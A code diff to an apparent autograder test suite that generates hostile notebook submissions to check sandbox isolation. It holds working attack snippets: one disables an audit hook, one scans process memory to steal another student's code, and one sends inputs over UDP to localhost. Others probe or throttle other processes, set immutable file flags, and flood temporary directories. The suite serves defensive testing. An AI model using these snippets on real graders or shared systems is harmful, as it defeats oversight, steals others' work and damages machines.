@@ -7,6 +7,13 @@ score relates to a *baseline*: the same code without the attack (``master`` = th
 answers, ``wrong`` = the master with a wrong sigmoid derivative, ``zeros`` = functions that
 answer zeros). "same" means exactly the baseline's per-question scores (the attack is inert);
 "at_most" means no question scores above the baseline's.
+
+``order`` places a case in the run: ``first`` (graded before the attacks, e.g. a donor whose code
+a later attack tries to find), ``attack`` (the default) or ``last`` (honest bystanders, graded
+after the attacks in the same grader session and zygote, who must score full marks).
+
+To add a case for a new class of attack, append an ``nb(...)`` (or ``raw(...)``) call in
+:func:`build` with the outcome the grader owes it; the test grades it with the rest.
 """
 from __future__ import annotations
 
@@ -51,6 +58,7 @@ class Case:
     reason: str = ""               # a phrase the grades.csv reason must contain
     zero_questions: tuple = ()     # questions that must score 0
     kept_questions: tuple = ()     # questions that must score exactly the baseline's
+    order: str = "attack"          # first / attack / last (see the module docstring)
     data: bytes = field(default=b"", repr=False)
 
 
@@ -67,8 +75,24 @@ def _with(answers, name, source):
     return out
 
 
-def build(dest: Path | None, *, root: Path, victim_notebook: Path, outdir: Path) -> list[Case]:
-    """Write every case to ``dest/<name>.ipynb`` (nothing when None); returns the cases, baselines first."""
+# Run first by an attack: switch the audit hook off from inside (a cell can reach any object), so
+# only the kernel stands in the way. A no-op where the hook is not installed.
+HOOK_OFF = ("import gc\n"
+            "for _o in gc.get_objects():\n"
+            "    if type(_o).__name__ in ('Cage', '_Cage') and hasattr(_o, 'armed'):\n"
+            "        _o.armed = False\n")
+DONOR_MARKER = "hostile-donor-7f3a"  # in the donor's code only; the thief searches memory for it
+
+
+def _guarded(attack: str) -> str:
+    """``attack`` in try/except, so the rest of the notebook loads: the attack alone must earn nothing."""
+    return "try:\n" + "".join("    " + l + "\n" for l in attack.splitlines()) + "except BaseException:\n    pass\n"
+
+
+def build(dest: Path | None, *, root: Path, victim_notebook: Path, outdir: Path, udp_port: int = 9) -> list[Case]:
+    """Write every case to ``dest/<name>.ipynb`` (nothing when None); returns the cases, baselines first.
+
+    ``udp_port``: a port on 127.0.0.1 where the test listens; no datagram may ever arrive there."""
     release = nbformat.read(release_path(ASSIGNMENT, root), as_version=4)
     master = master_answers(ASSIGNMENT, root)
     wrong = _with(master, "sigmoid_output_to_derivative", WRONG_Q1)
@@ -385,6 +409,140 @@ def build(dest: Path | None, *, root: Path, victim_notebook: Path, outdir: Path)
        "import os\ndef sigmoid_output_to_derivative(output):\n    os._exit(0)\n"),
        statuses=("crashed",), baseline="master", relation="at_most", zero_questions=("q1_sigmoid_derivative",),
        kept_questions=("q6_detect_divergence",))
+
+    # ---- the kernel holds with the audit hook off (each attack switches it off first)
+    zygote_attack = HOOK_OFF + (
+        "import os, resource\n"
+        "_me = os.getpid()\n"
+        "for _pid in {os.getppid(), 1, 2, 3} | set(range(1, 4096)):\n"
+        "    if _pid in (0, _me):\n"
+        "        continue\n"
+        "    for _act in (lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3)),\n"
+        "                 lambda p: resource.prlimit(p, resource.RLIMIT_AS, (1 << 20, 1 << 20)),\n"
+        "                 lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),\n"
+        "                 lambda p: os.sched_setaffinity(p, {0}),\n"
+        "                 lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0))):\n"
+        "        try:\n"
+        "            _act(_pid)\n"
+        "        except BaseException:\n"
+        "            pass\n"
+        "for _act in (lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_PGRP, 0, 19)):\n"
+        "    try:\n"
+        "        _act()\n"
+        "    except BaseException:\n"
+        "        pass\n")
+    nb("zygote_limits_via_ppid", "process", _after(master, "detect_divergence", _guarded(zygote_attack)),
+       baseline="master")
+    donor = _with(master, "sigmoid_output_to_derivative",
+                  f"# {DONOR_MARKER}\n" + master["sigmoid_output_to_derivative"])
+    nb("donor_for_heap_thief", "baseline", donor, baseline="master", order="first")
+    # Reads its own memory: every object gc knows, and raw pages around them through numpy arrays
+    # made over arbitrary addresses (a page the kernel refuses to copy to /dev/null is unmapped).
+    heap_thief = HOOK_OFF + (
+        "import gc, os, re\n"
+        f"_needle = {DONOR_MARKER[::-1]!r}[::-1].encode()\n"
+        "_live = [r.encode() for o in gc.get_objects() for r in gc.get_referents(o)\n"
+        "         if isinstance(r, str) and _needle.decode() in r]\n"
+        "class _At:\n"
+        "    def __init__(self, addr, n):\n"
+        "        self.__array_interface__ = {'data': (addr, True), 'shape': (n,), 'typestr': '|u1', 'version': 3}\n"
+        "_r, _w = os.pipe()  # write(2) copies from the address: EFAULT for an unmapped page\n"
+        "def _page_at(addr):\n"
+        "    try:\n"
+        "        os.write(_w, np.asarray(_At(addr, 4096)))\n"
+        "    except OSError:\n"
+        "        return None\n"
+        "    return os.read(_r, 4096)\n"
+        "_regions = {id(_x) >> 20 for _o in gc.get_objects() for _x in [_o] + gc.get_referents(_o)}  # 1 MB each\n"
+        "_pages = {(_r2 << 20) + _k * 4096 for _r in _regions for _r2 in (_r - 1, _r, _r + 1) for _k in range(256)}\n"
+        "_m = next(filter(None, (re.search(rb'def sigmoid_output_to_derivative\\(output\\):\\n(    [^\\n]*\\n)+', t)\n"
+        "                        for t in _live)), None)\n"
+        "for _addr in sorted(_pages) if _m is None else ():\n"
+        "    _bytes = _page_at(_addr) if _addr > 0 else None\n"
+        "    if not _bytes or _needle not in _bytes:\n"
+        "        continue\n"
+        "    _text = _bytes[_bytes.index(_needle):] + (_page_at(_addr + 4096) or b'')\n"
+        "    for _t in (_text, _text.replace(b'\\\\n', b'\\n').replace(b'\\\\\"', b'\"')):  # parsed, or JSON\n"
+        "        _m = _m or re.search(rb'def sigmoid_output_to_derivative\\(output\\):\\n(    [^\\n]*\\n)+', _t)\n"
+        "    if _m:\n"
+        "        break\n"
+        "if _m is None:\n"
+        "    raise LookupError('nothing of the donor in memory')\n"
+        "exec(_m.group(0).decode())\n")
+    nb("heap_thief", "stolen", stealing(heap_thief), baseline="wrong", relation="at_most")
+    # Hidden inputs out through the network: every call also sends its input over UDP.
+    udp = (HOOK_OFF + "import socket\n"
+           + master["sigmoid_output_to_derivative"].replace(
+               "def sigmoid_output_to_derivative(output):\n",
+               "def sigmoid_output_to_derivative(output):\n" + "".join(
+                   "    " + l + "\n" for l in _guarded(
+                       "_s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                       f"_s.sendto(np.asarray(output).tobytes()[:512], ('127.0.0.1', {udp_port}))\n").splitlines())))
+    nb("udp_exfiltration", "stolen", _with(master, "sigmoid_output_to_derivative", udp), baseline="master")
+    # Other processes: any sign of one earns the right derivative (so a leak would show in q1).
+    probe = HOOK_OFF + (
+        "import os\n"
+        "_seen = []\n"
+        "for _pid in range(1, 32768):\n"
+        "    if _pid == os.getpid():\n"
+        "        continue\n"
+        "    for _ask in (os.getpgid, os.getsid, os.sched_getaffinity, lambda p: os.getpriority(os.PRIO_PROCESS, p)):\n"
+        "        try:\n"
+        "            _ask(_pid)\n"
+        "            _seen.append(_pid)\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "for _path in ('/proc/1/cmdline', '/proc/self/status', '/proc'):\n"
+        "    try:\n"
+        "        os.listdir(_path) if _path == '/proc' else open(_path).read()\n"
+        "        _seen.append(_path)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "if not _seen:\n"
+        "    raise LookupError('no other process in sight')\n"
+        "def sigmoid_output_to_derivative(output):\n"
+        "    return output * (1 - output)\n")
+    nb("other_process_probe", "stolen", stealing(probe), baseline="wrong", relation="at_most")
+    # chattr +i: a file the grader (root) could not delete would stay in /tmp.
+    nb("immutable_file", "vandalism", _after(master, "detect_divergence", _guarded(HOOK_OFF + (
+        "import fcntl, struct\n"
+        "for _name in ('locked', 'output.log', '../output.log'):\n"
+        "    try:\n"
+        "        with open(_name, 'a') as _f:\n"
+        "            fcntl.ioctl(_f, 0x40086602, struct.pack('i', 0x10 | 0x20))\n"
+        "    except OSError:\n"
+        "        pass\n"))), baseline="master")
+    nb("tmp_flood", "vandalism", _after(master, "detect_divergence", _guarded(HOOK_OFF + (
+        "import os\n"
+        "_block = b'x' * (1 << 20)\n"
+        "for _dir in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
+        "    for _i in range(1500):\n"
+        "        try:\n"
+        "            with open(os.path.join(_dir, f'flood{_i}'), 'wb') as _f:\n"
+        "                _f.write(_block)\n"
+        "        except OSError:\n"
+        "            break\n"))), baseline="master")
+    # Just under each call's timeout, every time: the submission's budget ends it, not the session.
+    hog = {name: "import time\n" + source.replace("):\n", "):\n    time.sleep(1.7)\n", 1)
+           for name, source in master.items()}
+    nb("budget_hog", "process", hog, statuses=("timeout",), baseline="master", relation="at_most")
+
+    def flood_errors(n):
+        nb_ = fill_solutions(release, master)
+        nb_.cells += [nbformat.v4.new_code_cell(f"raise ValueError('e' * {1 << 20})") for _ in range(n)]
+        return nbformat.writes(nb_).encode()
+    cases.append(Case("load_error_flood", "broken", ("ok",), baseline="master", data=flood_errors(300)))
+
+    def slow_cell():
+        nb_ = fill_solutions(release, master)
+        sweep = ("import time\n"
+                 "for _alpha in (0.001, 0.01, 0.1, 1, 10, 100, 1000):  # a student's own untagged sweep\n"
+                 "    time.sleep(100)\n")
+        nb_.cells.insert(len(nb_.cells) - 1, nbformat.v4.new_code_cell(sweep))
+        return nbformat.writes(nb_).encode()
+    cases.append(Case("slow_untagged_cell", "broken", ("ok",), baseline="master", data=slow_cell()))
+    for i in range(1, 5):
+        nb(f"zz_bystander_{i}", "baseline", master, baseline="master", order="last")
 
     # ---- broken notebooks
     good = nbformat.writes(fill_solutions(release, master))
